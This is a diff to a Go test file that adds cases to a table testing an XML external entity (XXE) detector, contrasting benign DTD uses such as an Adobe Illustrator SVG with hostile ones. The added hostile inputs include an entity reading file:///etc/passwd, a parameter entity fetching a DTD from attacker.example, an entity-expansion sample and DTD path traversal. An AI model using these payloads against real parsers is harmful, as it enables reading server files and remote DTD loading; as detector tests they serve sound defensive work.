@@ -37,6 +37,17 @@ func TestXXE(t *testing.T) {
 		{"plist", `<!DOCTYPE plist PUBLIC "-//Apple//DTD PLIST 1.0//EN" "http://www.apple.com/DTDs/PropertyList-1.0.dtd"><plist version="1.0"><dict/></plist>`, false},
 		{"html5 doctype", `<!DOCTYPE html><html><body><p>hi</p></body></html>`, false},
 		{"entity reference alone", `Tom &amp; Jerry &copy; 2024`, false},
+		{"illustrator svg", illustratorSVG, false},
+		{"epub nbsp entity", `<!DOCTYPE html [<!ENTITY nbsp "&#160;"><!ENTITY copy "&#xA9;">]><html xmlns="http://www.w3.org/1999/xhtml"><p>a&nbsp;b</p></html>`, false},
+		{"dita local dtd", `<!DOCTYPE topic PUBLIC "-//OASIS//DTD DITA Topic//EN" "topic.dtd"><topic id="a"/>`, false},
+		{"html legacy-compat", `<!DOCTYPE html SYSTEM "about:legacy-compat"><html/>`, false},
+		{"literal entity probe, other root", `<!DOCTYPE foo [<!ENTITY bar "World">]><foo>Hello &bar;</foo>`, true},
+		{"svg billion laughs", `<!DOCTYPE svg [<!ENTITY a "lol"><!ENTITY b "&a;&a;&a;">]><svg>&b;</svg>`, true},
+		{"svg system entity among literal ones", `<!DOCTYPE svg [<!ENTITY ns "http://ns.adobe.com/"><!ENTITY x SYSTEM "file:///etc/passwd">]><svg>&x;</svg>`, true},
+		{"svg parameter entity", `<!DOCTYPE svg [<!ENTITY % p SYSTEM "http://attacker.example/e.dtd"> %p;]><svg/>`, true},
+		{"svg markup entity", `<!DOCTYPE svg [<!ENTITY m "<script>x</script>">]><svg>&m;</svg>`, true},
+		{"dtd path up", `<!DOCTYPE x SYSTEM "../../etc/x.dtd"><x/>`, true},
+		{"dtd absolute path", `<!DOCTYPE x SYSTEM "/etc/x.dtd"><x/>`, true},
 		{"prose about entities", `You declare an entity in the DTD, then reference it as &name;`, false},
 		{"soap", `<soap:Envelope xmlns:soap="http://schemas.xmlsoap.org/soap/envelope/"><soap:Body><m:GetPrice xmlns:m="https://example.org/prices"><m:Item>Apples</m:Item></m:GetPrice></soap:Body></soap:Envelope>`, false},
 		{"plain stylesheet", `<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform"><xsl:template match="/"><xsl:value-of select="/a/b"/></xsl:template></xsl:stylesheet>`, false},
@@ -87,3 +98,19 @@ func TestXXEBody(t *testing.T) {
 		}
 	}
 }
+
+// illustratorSVG is the head of an SVG as Adobe Illustrator saves it: its namespaces are
+// literal entities of the internal subset, referenced from xmlns attributes.
+const illustratorSVG = `<?xml version="1.0" encoding="utf-8"?>
+<!-- Generator: Adobe Illustrator 27.5.0, SVG Export Plug-In . SVG Version: 6.00 Build 0)  -->
+<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd" [
+	<!ENTITY ns_extend "http://ns.adobe.com/Extensibility/1.0/">
+	<!ENTITY ns_ai "http://ns.adobe.com/AdobeIllustrator/10.0/">
+	<!ENTITY ns_graphs "http://ns.adobe.com/Graphs/1.0/">
+	<!ENTITY ns_vars "http://ns.adobe.com/Variables/1.0/">
+]>
+<svg version="1.1" xmlns:x="&ns_extend;" xmlns:i="&ns_ai;" xmlns:graph="&ns_graphs;"
+	 xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" x="0px" y="0px"
+	 viewBox="0 0 24 24" style="enable-background:new 0 0 24 24;" xml:space="preserve">
+<path d="M12 2L2 22h20z"/>
+</svg>`
